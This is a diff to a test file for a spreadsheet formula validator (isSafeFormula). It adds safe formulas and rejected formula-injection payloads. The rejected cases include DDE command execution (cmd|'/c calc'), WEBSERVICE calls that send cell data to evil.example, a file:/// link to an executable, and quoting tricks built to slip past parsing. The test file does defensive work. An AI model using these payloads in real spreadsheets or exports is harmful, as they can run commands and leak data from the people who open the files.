@@ -32,6 +32,9 @@ test.each([
   'IF(A1="CALL(","x","y")',
   '_xlfn.XLOOKUP(A1,B:B,C:C)',
   'RECALL(1)',
+  `'it''s'!A1&"|"&"it's CALL("&'a b'!A1`,
+  `Table1[it''s]&"a|b"&Table1[[#This Row],[a b]]`,
+  'BYROW(A1:C3,_xleta.SUM)',
 ])('the formula %s may stay', (formula) => {
   expect(isSafeFormula(formula)).toBe(true);
 });
@@ -45,6 +48,16 @@ test.each([
   "'C:\\[book.xlsx]Sheet1'!A1",
   "'\\\\server\\share\\[b.xls]S'!A1",
   'HYPERLINK("https://example.com/"&A1)',
+  `'"'!A1+cmd|'/c calc'!A0+'"'!A1`,
+  `'it''s "'!A1+WEBSERVICE(A1)+'"'!A1`,
+  `'"'!A1+WEBSERVICE("https://evil.example/"&A1)`,
+  'T["]+WEBSERVICE("https://evil.example/"&A1)',
+  `T['"]+WEBSERVICE(A1)+T['"]`,
+  `T['#]&'"'!A1+WEBSERVICE(A1)+'"'!A1`,
+  `'['!A1&'"'!A1+WEBSERVICE(A1)+'"'!A1`,
+  `T['#]&"'"&cmd|'/c calc'!A0`,
+  'MAP(A1:A9,_xleta.WEBSERVICE)',
+  'MAP(A1:A9,_xlfn._xleta.HYPERLINK)',
   'HYPERLINK(A1)',
   'HYPERLINK("file:///c:/a.exe")',
   'SUM(EXEC ("calc"))',
